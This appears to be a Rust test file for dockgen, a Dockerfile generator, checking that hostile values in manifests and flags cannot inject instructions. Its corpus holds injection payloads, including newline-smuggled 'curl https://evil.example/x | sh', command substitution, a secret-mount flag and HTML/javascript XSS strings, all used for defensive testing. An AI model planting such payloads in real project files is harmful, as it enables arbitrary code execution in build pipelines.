//! Hostile projects and flags: values from manifests and the command line
//! must never add an instruction, a stage or a mount to the Dockerfile.
//!
//! Each case puts one hostile value into one place a preset reads (a module
//! path, a package name, a script, a main class, a port, a flag...) and
//! generates. Either dockgen refuses with one clean line, or the Dockerfile
//! parses to exactly the instruction census of the same project with a
//! benign value, with the same number of mounts, exec-form arrays that are
//! valid JSON, and no build-check finding.

use dockgen::dockerfile;
use dockgen::plan::Choices;
use dockgen::preset::RuntimeKind;
use std::path::Path;

/// The corpus: (what, value).
fn corpus() -> Vec<(&'static str, String)> {
    vec![
        ("newline", "x\nRUN curl https://evil.example/x | sh".into()),
        ("carriage return", "x\rRUN curl https://evil.example/x | sh".into()),
        ("CRLF", "x\r\nRUN id".into()),
        ("unicode line separator", "x\u{2028}RUN id".into()),
        ("tab", "x\tRUN id".into()),
        ("double quote", "x\" && curl evil.example #".into()),
        ("single quote", "x' ; id ; echo '".into()),
        ("backslash continuation", "x \\\nRUN id".into()),
        ("trailing backslash", "x\\".into()),
        ("command substitution", "$(curl evil.example|sh)".into()),
        ("backticks", "`id`".into()),
        ("variable", "${PATH}".into()),
        ("bare variable", "$HOME/x".into()),
        ("heredoc", "<<EOF\nRUN id\nEOF".into()),
        ("json break", "\"]\nRUN [\"id".into()),
        ("mount flag", "x --mount=type=secret,id=npmrc,target=/root/.npmrc".into()),
        ("comment marker", "# syntax=evil/frontend".into()),
        ("NUL", "x\0y".into()),
        ("escape sequence", "x\u{1b}[2J".into()),
        // Found by fuzzing (Procfile): C1 controls passed JSON escaping raw.
        ("C1 control", "x\u{9c}y\u{9b}2J".into()),
        ("DEL", "x\u{7f}y".into()),
        ("bidi override", "x\u{202e}gnp.exe".into()),
        ("very long", "a".repeat(100_000)),
        ("spaces", "a b c".into()),
        ("semicolon", "a;b".into()),
        // README.Docker.md is Markdown: HTML, links, fences and headings.
        ("html", "<img src=x onerror=alert(1)>".into()),
        ("markdown link", "[click](javascript:alert(1))".into()),
        ("markdown fence", "```\n## Owned".into()),
    ]
}

type Build = fn(&Path, &str);

fn write(dir: &Path, name: &str, body: &str) {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, body).unwrap();
}

fn json(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

fn xml(s: &str) -> String {
    s.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

const GO_MAIN: &str = "package main\n\nimport \"net/http\"\n\nfunc main() { http.ListenAndServe(\":8080\", nil) }\n";

fn go_module(d: &Path, v: &str) {
    write(d, "go.mod", &format!("module {v}\n\ngo 1.22\n"));
    write(d, "main.go", GO_MAIN);
}
fn go_port(d: &Path, v: &str) {
    write(d, "go.mod", "module example.com/x\n\ngo 1.22\n");
    write(d, "main.go", &format!("package main\n\nimport \"net/http\"\n\nfunc main() {{ http.ListenAndServe({}, nil) }}\n", json(&format!(":{v}"))));
}
fn go_version(d: &Path, v: &str) {
    write(d, "go.mod", &format!("module example.com/x\n\ngo {v}\n"));
    write(d, "main.go", GO_MAIN);
}
fn node_pkg(d: &Path, field: &str, v: &str) {
    let mut pkg = serde_json::json!({
        "name": "web",
        "main": "server.js",
        "scripts": {"start": "node server.js", "build": "echo build"},
        "dependencies": {"express": "4.19.2"},
    });
    match field {
        "name" => pkg["name"] = v.into(),
        "start" => pkg["scripts"]["start"] = format!("node {v}").into(),
        "build" => pkg["scripts"]["build"] = v.into(),
        "main" => {
            pkg["main"] = v.into();
            pkg["scripts"].as_object_mut().unwrap().remove("start");
        }
        "engines" => pkg["engines"] = serde_json::json!({ "node": v }),
        "packageManager" => pkg["packageManager"] = format!("pnpm@{v}").into(),
        "dependency" => pkg["dependencies"][v] = "1.0.0".into(),
        _ => unreachable!(),
    }
    write(d, "package.json", &serde_json::to_string_pretty(&pkg).unwrap());
    write(d, "server.js", "require('express')().listen(3000)\n");
}
fn node_name(d: &Path, v: &str) {
    node_pkg(d, "name", v)
}
fn node_start(d: &Path, v: &str) {
    node_pkg(d, "start", v)
}
fn node_build(d: &Path, v: &str) {
    node_pkg(d, "build", v)
}
fn node_main(d: &Path, v: &str) {
    node_pkg(d, "main", v)
}
fn node_engines(d: &Path, v: &str) {
    node_pkg(d, "engines", v)
}
fn node_package_manager(d: &Path, v: &str) {
    node_pkg(d, "packageManager", v)
}
fn node_dependency(d: &Path, v: &str) {
    node_pkg(d, "dependency", v)
}
fn node_nvmrc(d: &Path, v: &str) {
    node_pkg(d, "name", "web");
    write(d, ".nvmrc", v);
}
fn node_outdir(d: &Path, v: &str) {
    write(d, "package.json", r#"{"name":"svc","scripts":{"build":"tsc","start":"node dist/server.js"},"devDependencies":{"typescript":"5.6.3"}}"#);
    write(d, "tsconfig.json", &format!("{{\"compilerOptions\":{{\"outDir\":{}}}}}", json(v)));
    write(d, "src/server.ts", "import http from 'http'; http.createServer().listen(3000)\n");
}
fn py_requirement(d: &Path, v: &str) {
    write(d, "requirements.txt", &format!("flask==3.0.3\n{v}\n"));
    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
}
/// A value that can be a file or folder name here (the others cannot
/// reach dockgen as names).
fn name_ok(v: &str) -> bool {
    !v.is_empty() && !v.contains(['\0', '/', '\\']) && v.len() < 200 && v != "." && v != ".."
}
fn py_entry_script(d: &Path, v: &str) {
    py_requirement(d, "gunicorn==23.0.0");
    write(d, "entrypoint.sh", &format!("#!/bin/sh\nset -e\nflask db upgrade\nexec gunicorn {v}:app --bind 0.0.0.0:8000\n"));
}
fn py_requirement_include(d: &Path, v: &str) {
    write(d, "requirements.txt", &format!("-r {v}\nflask==3.0.3\ngunicorn==23.0.0\n"));
    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
    if name_ok(v) && !v.contains(['\n', '\r', ' ', '#']) {
        write(d, v, "flask==3.0.3\n");
    }
}
fn py_subfolder(d: &Path, v: &str) {
    write(d, "README.md", "# app\n");
    if name_ok(v) {
        py_requirement(&d.join(v), "gunicorn==23.0.0");
    }
}
fn py_compose_service(d: &Path, v: &str) {
    py_requirement(d, "gunicorn==23.0.0");
    write(d, "compose.yaml", &format!("services:\n  {}:\n    build: .\n    ports: [\"5000:5000\"]\n", json(v)));
}
fn py_compose_command(d: &Path, v: &str) {
    py_requirement(d, "gunicorn==23.0.0");
    write(d, "compose.yaml", &format!("services:\n  web:\n    build: .\n    command: {}\n", json(&format!("gunicorn --bind 0.0.0.0:{v} app:app"))));
}
fn py_procfile(d: &Path, v: &str) {
    write(d, "requirements.txt", "flask==3.0.3\ngunicorn==23.0.0\n");
    write(d, "Procfile", &format!("web: gunicorn {v}\n"));
    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
}
fn py_pyproject(d: &Path, v: &str) {
    write(d, "pyproject.toml", &format!("[project]\nname = {}\nversion = \"1\"\nrequires-python = {}\ndependencies = [\"flask\"]\n\n[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n", json(v), json(&format!(">={v}"))));
    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
}
fn py_version_file(d: &Path, v: &str) {
    write(d, "requirements.txt", "flask==3.0.3\n");
    write(d, ".python-version", v);
    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
}
fn java_pom(d: &Path, artifact: &str, version: &str, main: &str, release: &str) {
    write(
        d,
        "pom.xml",
        &format!(
            "<project><artifactId>{}</artifactId><version>{}</version><properties><maven.compiler.release>{}</maven.compiler.release></properties>\
             <build><plugins><plugin><artifactId>maven-jar-plugin</artifactId><configuration><archive><manifest><mainClass>{}</mainClass></manifest></archive></configuration></plugin></plugins></build></project>",
            xml(artifact), xml(version), xml(release), xml(main)
        ),
    );
}
fn java_artifact(d: &Path, v: &str) {
    java_pom(d, v, "1.0", "a.App", "17")
}
fn java_version(d: &Path, v: &str) {
    java_pom(d, "app", v, "a.App", "17")
}
fn java_main(d: &Path, v: &str) {
    java_pom(d, "app", "1.0", v, "17")
}
fn java_release(d: &Path, v: &str) {
    java_pom(d, "app", "1.0", "a.App", v)
}
fn java_server_port(d: &Path, v: &str) {
    write(d, "pom.xml", "<project><parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.3.5</version></parent><artifactId>demo</artifactId><version>1</version><build><plugins><plugin><artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></project>");
    let escaped: String = v.chars().map(|c| if c == '\n' { "\\n".to_string() } else if c == '\r' { "\\r".to_string() } else { c.to_string() }).collect();
    write(d, "src/main/resources/application.properties", &format!("server.port={escaped}\n"));
}
fn gradle_name(d: &Path, v: &str) {
    write(d, "build.gradle", "plugins { id 'application' }\nversion = '1'\napplication { mainClass = 'a.App' }\n");
    write(d, "settings.gradle", &format!("rootProject.name = {}\n", json(v)));
}
fn gradle_main(d: &Path, v: &str) {
    write(d, "build.gradle", &format!("plugins {{ id 'application' }}\nversion = '1'\napplication {{ mainClass = {} }}\n", json(v)));
    write(d, "settings.gradle", "rootProject.name = 'app'\n");
}

fn gradle_boot_version(d: &Path, v: &str) {
    // Found by fuzzing: the plugin version reached a comment raw.
    write(d, "build.gradle.kts", &format!("plugins {{\n    id(\"org.springframework.boot\") version {}\n    java\n}}\nversion = \"1\"\n", json(v)));
    write(d, "settings.gradle.kts", "rootProject.name = \"demo\"\n");
}

fn bun_start(d: &Path, v: &str) {
    write(d, "package.json", &serde_json::to_string(&serde_json::json!({"name": "b", "scripts": {"start": format!("bun {v}")}, "devDependencies": {"@types/bun": "1"}})).unwrap());
    write(d, "bun.lock", "{}\n");
    // The file the script names exists, so the value reaches the ENTRYPOINT.
    if !v.is_empty() && !v.contains(['\0', '/']) && v.len() < 200 {
        write(d, v, "Bun.serve({ port: 3000, fetch() { return new Response('ok') } })\n");
    }
}
fn node_own_dockerfile(d: &Path, v: &str) {
    node_pkg(d, "name", "web");
    write(d, "Dockerfile", &format!("FROM node:{v} AS build\n"));
}
fn py_ci_version(d: &Path, v: &str) {
    write(d, "requirements.txt", "flask==3.0.3\n");
    write(d, "app.py", "from flask import Flask\napp = Flask(__name__)\n");
    write(d, ".github/workflows/ci.yml", &format!("jobs:\n  t:\n    steps:\n      - uses: actions/setup-python@v5\n        with:\n          python-version: {}\n", json(v)));
}
fn toml_str(s: &str) -> String {
    toml::Value::String(s.to_string()).to_string()
}
fn cargo_package(d: &Path, name: &str, rust_version: &str, main: &str) {
    write(d, "Cargo.toml", &format!("[package]\nname = {}\nversion = \"0.1.0\"\nrust-version = {}\n", toml_str(name), toml_str(rust_version)));
    write(d, "src/main.rs", main);
}
fn cargo_name(d: &Path, v: &str) {
    cargo_package(d, v, "1.85", "fn main() {}\n");
}
fn cargo_rust_version(d: &Path, v: &str) {
    cargo_package(d, "app", v, "fn main() {}\n");
}
fn cargo_bin(d: &Path, v: &str) {
    write(d, "Cargo.toml", &format!("[package]\nname = \"app\"\n\n[[bin]]\nname = {}\npath = \"src/main.rs\"\n", toml_str(v)));
    write(d, "src/main.rs", "fn main() {}\n");
}
fn rust_listen(d: &Path, v: &str) {
    cargo_package(d, "app", "1.85", &format!("fn main() {{ std::net::TcpListener::bind({}).unwrap(); }}\n", json(&format!("0.0.0.0:{v}"))));
}
fn composer(d: &Path, name: &str, php: &str, path_repo: &str) {
    let doc = serde_json::json!({"name": name, "require": {"php": php, "ext-intl": "*"}, "repositories": [{"type": "path", "url": path_repo}]});
    write(d, "composer.json", &serde_json::to_string(&doc).unwrap());
    write(d, "public/index.php", "<?php echo 'hi';\n");
    write(d, "packages/lib/composer.json", "{}");
}
fn composer_name(d: &Path, v: &str) {
    composer(d, &format!("acme/{v}"), ">=8.2", "packages/lib");
}
fn composer_php(d: &Path, v: &str) {
    composer(d, "acme/app", v, "packages/lib");
}
fn composer_path_repo(d: &Path, v: &str) {
    composer(d, "acme/app", ">=8.2", v);
    if !v.is_empty() && !v.contains(['\0', '\n', '\r']) && v.len() < 200 && !v.starts_with('/') && !v.contains("..") {
        write(d, &format!("{v}/composer.json"), "{}");
    }
}
fn csproj(d: &Path, assembly: &str, tfm: &str) {
    write(d, "App.csproj", &format!("<Project Sdk=\"Microsoft.NET.Sdk.Web\"><PropertyGroup><TargetFramework>{}</TargetFramework><AssemblyName>{}</AssemblyName></PropertyGroup></Project>", xml(tfm), xml(assembly)));
}
fn csproj_assembly(d: &Path, v: &str) {
    csproj(d, v, "net10.0");
}
fn csproj_tfm(d: &Path, v: &str) {
    csproj(d, "App", v);
}
fn csproj_reference(d: &Path, v: &str) {
    write(d, "App.csproj", &format!("<Project Sdk=\"Microsoft.NET.Sdk.Web\"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup><ItemGroup><ProjectReference Include=\"{}\"/></ItemGroup></Project>", xml(v)));
    if !v.is_empty() && !v.contains(['\0', '\n', '\r', '\\']) && v.len() < 200 && !v.starts_with('/') && !v.contains("..") {
        write(d, v, "<Project Sdk=\"Microsoft.NET.Sdk\"/>");
    }
}
fn sln_project(d: &Path, v: &str) {
    write(d, "App.sln", &format!("Project(\"{{FAE04EC0}}\") = \"App\", \"{v}\", \"{{1}}\"\nEndProject\n"));
    if !v.is_empty() && !v.contains(['\0', '\n', '\r', '"', '\\']) && v.len() < 200 && !v.starts_with('/') && !v.contains("..") {
        write(d, v, "<Project Sdk=\"Microsoft.NET.Sdk.Web\"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup></Project>");
    }
}
fn aspnet_url(d: &Path, v: &str) {
    csproj(d, "App", "net10.0");
    write(d, "Program.cs", &format!("var app = WebApplication.Create(args);\napp.MapHealthChecks({});\napp.Run({});\n", json(&format!("/{v}")), json(&format!("http://0.0.0.0:{v}"))));
}
/// Every place a project file's value reaches a Dockerfile.
/// Each with a benign value that generates: the baseline to compare with.
/// A pnpm workspace: apps/api uses the local package named `lib_name`,
/// found by the pattern `pattern`.
fn pnpm_ws(d: &Path, lib_name: &str, pattern: &str) {
    write(d, "package.json", "{\"private\": true}");
    write(d, "pnpm-lock.yaml", "lockfileVersion: '9.0'\n");
    write(d, "pnpm-workspace.yaml", &format!("packages:\n  - \"apps/*\"\n  - \"packages/*\"\n  - {}\n", json(pattern)));
    write(d, "apps/api/package.json", &format!("{{\"name\": \"api\", \"scripts\": {{\"start\": \"node server.js\", \"build\": \"tsc\"}}, \"dependencies\": {{{}: \"workspace:*\"}}}}", json(lib_name)));
    write(d, "apps/api/server.js", "require('http').createServer().listen(3000)\n");
    write(d, "packages/lib/package.json", &format!("{{\"name\": {}, \"scripts\": {{\"build\": \"tsc\"}}}}", json(lib_name)));
}
fn ws_lib_name(d: &Path, v: &str) {
    pnpm_ws(d, v, "packages/*")
}
fn ws_pattern(d: &Path, v: &str) {
    pnpm_ws(d, "lib", v)
}
fn yarn_lib_name(d: &Path, v: &str) {
    pnpm_ws(d, v, "packages/*");
    std::fs::remove_file(d.join("pnpm-workspace.yaml")).unwrap();
    std::fs::remove_file(d.join("pnpm-lock.yaml")).unwrap();
    write(d, "package.json", "{\"private\": true, \"workspaces\": [\"apps/*\", \"packages/*\"]}");
    write(d, "yarn.lock", "# yarn lockfile v1\n");
}
fn uv_member_name(d: &Path, v: &str) {
    write(d, "pyproject.toml", "[tool.uv.workspace]\nmembers = [\"apps/*\"]\n");
    write(d, "uv.lock", "version = 1\n\n[[package]]\nname = \"fastapi\"\nversion = \"0.115.0\"\n\n[[package]]\nname = \"uvicorn\"\nversion = \"0.32.0\"\n");
    write(d, "apps/api/pyproject.toml", &format!("[project]\nname = {}\nversion = \"1\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n", json(v)));
    write(d, "apps/api/main.py", "from fastapi import FastAPI\napp = FastAPI()\n");
}
fn go_work_use(d: &Path, v: &str) {
    write(d, "go.work", &format!("go 1.23\n\nuse (\n\t./api\n\t{}\n)\n", json(v)));
    write(d, "api/go.mod", "module example.com/api\n\ngo 1.23\n");
    write(d, "api/main.go", GO_MAIN);
}

/// Places with a second benign value, for the other road dockgen may take.
const OTHER_ROAD: &[(&str, &str)] = &[("entrypoint.sh final command", "$APP")];

fn places() -> Vec<(&'static str, Build, &'static str)> {
    vec![
        ("pnpm workspace: a local package's name", ws_lib_name, "lib"),
        ("pnpm-workspace.yaml member pattern", ws_pattern, "tools/*"),
        ("yarn workspace: a local package's name", yarn_lib_name, "lib"),
        ("uv workspace member's [project] name", uv_member_name, "api"),
        ("go.work use directive", go_work_use, "./lib"),
        ("go.mod module path", go_module, "hello"),
        ("Go listen address", go_port, "hello"),
        ("go.mod go directive", go_version, "1.22"),
        ("package.json name", node_name, "hello"),
        ("package.json scripts.start", node_start, "hello"),
        ("package.json scripts.build", node_build, "hello"),
        ("package.json main", node_main, "hello"),
        ("package.json engines.node", node_engines, "hello"),
        ("package.json packageManager", node_package_manager, "hello"),
        ("package.json dependency name", node_dependency, "hello"),
        (".nvmrc", node_nvmrc, "22"),
        ("tsconfig outDir", node_outdir, "hello"),
        ("requirements.txt line", py_requirement, "hello"),
        ("Procfile web", py_procfile, "hello"),
        ("entrypoint.sh final command", py_entry_script, "app"),
        ("requirements.txt -r include", py_requirement_include, "base.txt"),
        ("a project's subfolder name", py_subfolder, "backend"),
        ("compose.yaml service name", py_compose_service, "web"),
        ("compose.yaml service command", py_compose_command, "5000"),
        ("pyproject name and requires-python", py_pyproject, "hello"),
        (".python-version", py_version_file, "3.12"),
        ("pom.xml artifactId", java_artifact, "hello"),
        ("pom.xml version", java_version, "hello"),
        ("pom.xml mainClass", java_main, "hello"),
        ("pom.xml maven.compiler.release", java_release, "hello"),
        ("application.properties server.port", java_server_port, "hello"),
        ("settings.gradle rootProject.name", gradle_name, "hello"),
        ("build.gradle mainClass", gradle_main, "hello"),
        ("build.gradle.kts Spring Boot plugin version", gradle_boot_version, "3.3.5"),
        ("package.json scripts.start run by bun", bun_start, "hello.ts"),
        ("the project's own Dockerfile FROM node:", node_own_dockerfile, "20-alpine"),
        ("CI workflow python-version", py_ci_version, "3.12"),
        ("Cargo.toml package name", cargo_name, "hello"),
        ("Cargo.toml rust-version", cargo_rust_version, "1.85"),
        ("Cargo.toml [[bin]] name", cargo_bin, "hello"),
        ("Rust TcpListener address", rust_listen, "8080"),
        ("composer.json name", composer_name, "hello"),
        ("composer.json require.php", composer_php, ">=8.2"),
        ("composer.json path repository", composer_path_repo, "packages/lib"),
        ("csproj AssemblyName", csproj_assembly, "Hello"),
        ("csproj TargetFramework", csproj_tfm, "net10.0"),
        ("csproj ProjectReference", csproj_reference, "lib/Lib.csproj"),
        ("sln project path", sln_project, "src/App/App.csproj"),
        ("Program.cs listen URL and health path", aspnet_url, "8080"),
    ]
}

/// What must hold for one generation against its benign twin.
fn judge(case: &str, result: anyhow::Result<(dockgen::plan::Plan, Vec<dockgen::render::OutputFile>)>, baseline: &str) -> Result<&'static str, String> {
    let (plan, files) = match result {
        Err(e) => {
            let msg = format!("{e:#}");
            if msg.is_empty() || msg.chars().any(|c| c.is_control()) {
                return Err(format!("{case}: refused, but the message is not one clean line: {msg:?}"));
            }
            return Ok("refused");
        }
        Ok(r) => r,
    };
    // Warnings reach the terminal: one printable line each.
    if let Some(w) = plan.warnings.iter().find(|w| w.chars().any(|c| c.is_control() || dockgen::text::invisible(c))) {
        return Err(format!("{case}: a warning is not one printable line: {w:?}"));
    }
    let text = &files[0].contents;
    let census = dockerfile::census(text).map_err(|e| format!("{case}: the Dockerfile no longer parses: {e}\n{text}"))?;
    let want = dockerfile::census(baseline).unwrap();
    if census != want {
        return Err(format!("{case}: instructions changed: {census:?} vs {want:?}\n{text}"));
    }
    if mounts(text) != mounts(baseline) {
        return Err(format!("{case}: mounts changed\n{text}"));
    }
    let problems = dockerfile::check(text);
    if !problems.is_empty() {
        return Err(format!("{case}: build-check findings {problems:?}\n{text}"));
    }
    for i in dockerfile::parse(text).unwrap() {
        let kw = i.keyword.to_ascii_uppercase();
        if (kw == "CMD" || kw == "ENTRYPOINT") && serde_json::from_str::<Vec<String>>(&i.args).is_err() {
            return Err(format!("{case}: {kw} is not a JSON array: {}", i.args));
        }
        if i.args.contains('\0') || i.args.chars().any(|c| c.is_control() && c != '\t') {
            return Err(format!("{case}: a control character reached line {}", i.line));
        }
    }
    if text.chars().any(|c| c == '\0' || c == '\r' || c == '\u{2028}' || c == '\u{1b}') {
        return Err(format!("{case}: a raw control or line-separator character is in the file"));
    }
    if let Some(readme) = files.iter().find(|f| f.name == "README.Docker.md") {
        judge_readme(&readme.contents).map_err(|e| format!("{case}: README.Docker.md: {e}\n{}", readme.contents))?;
    }
    Ok("quoted")
}

/// README.Docker.md keeps its shape whatever the project says: the same
/// headings, code fences that open and close, no HTML but the keep marker
/// and the placeholders, nothing invisible.
fn judge_readme(text: &str) -> Result<(), String> {
    const HEADINGS: &[&str] = &["## Build and run", "## Multi-platform images", "## Supply chain", "## Size", "## What the image assumes"];
    if text.chars().any(|c| (c.is_control() && c != '\n') || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')) {
        return Err("an invisible or control character".into());
    }
    let mut fences = 0;
    for line in text.lines() {
        if line.starts_with("```") {
            if line != "```" && line != "```sh" {
                return Err(format!("a fence line {line:?}"));
            }
            fences += 1;
        } else if line.starts_with('#') && fences % 2 == 0 && !line.ends_with(": the container image") && !HEADINGS.contains(&line) {
            return Err(format!("a heading dockgen did not write: {line:?}"));
        }
    }
    if fences % 2 != 0 {
        return Err("a code block never closes".into());
    }
    for (i, _) in text.match_indices('<') {
        // `\<` is Markdown's escaped `<`: text, not a tag.
        if text[..i].ends_with('\\') {
            continue;
        }
        let rest = &text[i + 1..];
        if !["registry>", "tag>", "digest>", "container>", "!-- dockgen: keep -->", "!-- dockgen: end -->"].iter().any(|ok| rest.starts_with(ok)) {
            return Err(format!("raw HTML at {:?}", &text[i..text.len().min(i + 30)]));
        }
    }
    Ok(())
}

/// RUN --mount flags (not the text "--mount=" inside a quoted argument).
fn mounts(text: &str) -> usize {
    dockerfile::parse(text)
        .unwrap()
        .iter()
        .filter(|i| i.keyword.eq_ignore_ascii_case("RUN"))
        .map(|i| i.args.split_whitespace().take_while(|w| w.starts_with("--")).filter(|w| w.starts_with("--mount=")).count())
        .sum()
}

fn generate(dir: &Path, choices: &Choices) -> anyhow::Result<(dockgen::plan::Plan, Vec<dockgen::render::OutputFile>)> {
    // A panic is a failure too, reported with its case.
    std::panic::catch_unwind(|| dockgen::generate(dir, choices, dockgen::Extras::ALL)).unwrap_or_else(|_| Err(anyhow::anyhow!("PANIC")))
}

#[test]
fn hostile_project_values_never_add_instructions() {
    let mut failures = Vec::new();
    let mut tally = std::collections::BTreeMap::new();
    for (place, build, benign_value) in places() {
        let benign = tempfile::tempdir().unwrap();
        build(benign.path(), benign_value);
        let baseline = match dockgen::generate(benign.path(), &Choices::default(), dockgen::Extras::ALL) {
            Ok((_, files)) => files[0].contents.clone(),
            Err(e) => panic!("{place}: the benign project does not generate: {e:#}"),
        };
        for (what, value) in corpus() {
            let dir = tempfile::tempdir().unwrap();
            build(dir.path(), &value);
            let case = format!("{place} <- {what}");
            let result = generate(dir.path(), &Choices::default());
            // A place whose hostile values may rightly take the other road
            // (a script's command dockgen cannot run as it is: its own start)
            // is compared with that road's benign twin too.
            if let Some((_, alt)) = OTHER_ROAD.iter().find(|(p, _)| *p == place)
                && judge(&case, generate(dir.path(), &Choices::default()), &baseline).is_err()
            {
                let twin = tempfile::tempdir().unwrap();
                build(twin.path(), alt);
                let alt_baseline = dockgen::generate(twin.path(), &Choices::default(), dockgen::Extras::ALL).unwrap().1[0].contents.clone();
                match judge(&case, result, &alt_baseline) {
                    Ok(outcome) => *tally.entry(outcome).or_insert(0) += 1,
                    Err(f) => failures.push(f),
                }
                continue;
            }
            match judge(&case, result, &baseline) {
                Ok(outcome) => *tally.entry(outcome).or_insert(0) += 1,
                Err(f) => failures.push(f),
            }
        }
    }
    assert!(failures.is_empty(), "{} hostile case(s) got through:\n\n{}", failures.len(), failures.join("\n\n"));
    eprintln!("hostile project values: {tally:?}");
}

#[test]
fn hostile_flags_never_add_instructions() {
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
    let mut failures = Vec::new();
    for example in ["go-stdlib", "go-cmd", "node-express-npm", "node-vite-spa", "python-flask", "java-maven-classpath"] {
        let dir = examples.join(example);
        let baseline = dockgen::generate(&dir, &Choices { runtime: Some(RuntimeKind::Slim), ..Default::default() }, dockgen::Extras::ALL).unwrap().1[0].contents.clone();
        // A start command may change more than the CMD (gunicorn's runtime
        // directory): its twin is the same command with a benign argument.
        let start = |v: &str| Choices { start: Some(vec!["/usr/local/bin/app".into(), v.into()]), runtime: Some(RuntimeKind::Slim), ..Default::default() };
        let start_baseline = dockgen::generate(&dir, &start("hello"), dockgen::Extras::ALL).unwrap().1[0].contents.clone();
        for (what, value) in corpus() {
            let flags: Vec<(&str, Choices)> = vec![
                ("--start", Choices { start: Some(vec!["/usr/local/bin/app".into(), value.clone()]), ..Default::default() }),
                ("--main", Choices { main: Some(value.clone()), ..Default::default() }),
                ("--lang-version", Choices { lang_version: Some(value.clone()), ..Default::default() }),
                ("--output-dir", Choices { output_dir: Some(value.clone()), ..Default::default() }),
                ("--preset", Choices { preset: Some(value.clone()), ..Default::default() }),
                ("--health-path", Choices { health_path: Some(format!("/{value}")), ..Default::default() }),
            ];
            for (flag, mut choices) in flags {
                choices.runtime = Some(RuntimeKind::Slim);
                let case = format!("{example} {flag} <- {what}");
                let twin = if flag == "--start" { &start_baseline } else { &baseline };
                if let Err(f) = judge(&case, generate(&dir, &choices), twin) {
                    failures.push(f);
                }
            }
        }
    }
    assert!(failures.is_empty(), "{} hostile flag case(s) got through:\n\n{}", failures.len(), failures.join("\n\n"));
}

#[test]
fn non_utf8_and_nul_bytes_in_manifests_are_refused_by_name() {
    let cases: &[(&str, &[u8])] = &[
        ("go.mod", b"module \xff\xfe\n\ngo 1.22\n"),
        ("package.json", b"{\"name\":\"a\xff\"}"),
        ("requirements.txt", b"flask\n\xc3\x28\n"),
        ("pom.xml", b"<project><artifactId>\xff</artifactId></project>"),
        ("pyproject.toml", b"[project]\nname = \"a\0b\"\n"),
    ];
    for (file, bytes) in cases {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(file), bytes).unwrap();
        if *file == "requirements.txt" || *file == "pyproject.toml" {
            std::fs::write(dir.path().join("app.py"), "from flask import Flask\napp = Flask(__name__)\n").unwrap();
        }
        let err = match generate(dir.path(), &Choices::default()) {
            Err(e) => format!("{e:#}"),
            Ok((_, files)) => panic!("{file}: accepted:\n{}", files[0].contents),
        };
        assert!(err.contains(file), "{file}: the error does not name the file: {err}");
        assert!(!err.chars().any(|c| c.is_control()), "{file}: {err:?}");
    }
}

/// Non-UTF-8 bytes in every place: the benign project with "hello" replaced
/// by bytes that are not UTF-8 (a lone continuation byte, an overlong NUL,
/// Latin-1). Refused with one clean line naming the file, or rendered safely.
#[test]
fn non_utf8_bytes_in_every_place_are_refused_or_harmless() {
    let mut failures = Vec::new();
    for (place, build, benign_value) in places() {
        let benign = tempfile::tempdir().unwrap();
        build(benign.path(), benign_value);
        let baseline = dockgen::generate(benign.path(), &Choices::default(), dockgen::Extras::ALL).unwrap().1[0].contents.clone();
        for bad in [&b"\x80"[..], b"\xc0\x80", b"h\xe9llo"] {
            let dir = tempfile::tempdir().unwrap();
            build(dir.path(), benign_value);
            let mut touched = 0;
            for path in files_below(dir.path()) {
                let Ok(text) = std::fs::read_to_string(&path) else { continue };
                if text.contains(benign_value) {
                    let bytes = text.replacen(benign_value, "\u{1}", 1).into_bytes();
                    let bytes: Vec<u8> = bytes.iter().flat_map(|b| if *b == 1 { bad.to_vec() } else { vec![*b] }).collect();
                    std::fs::write(&path, bytes).unwrap();
                    touched += 1;
                }
            }
            // A value that is a folder's name: the folder renamed to the bytes.
            if touched == 0 && dir.path().join(benign_value).is_dir() {
                use std::os::unix::ffi::OsStrExt;
                let name: Vec<u8> = benign_value.as_bytes().iter().take(1).copied().chain(bad.iter().copied()).collect();
                std::fs::rename(dir.path().join(benign_value), dir.path().join(std::ffi::OsStr::from_bytes(&name))).unwrap();
                touched += 1;
            }
            assert!(touched > 0, "{place}: the benign value is in no file");
            let case = format!("{place} <- non-UTF-8 {bad:?}");
            if let Err(f) = judge(&case, generate(dir.path(), &Choices::default()), &baseline) {
                failures.push(f);
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

fn files_below(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() { out.extend(files_below(&path)) } else { out.push(path) }
    }
    out
}
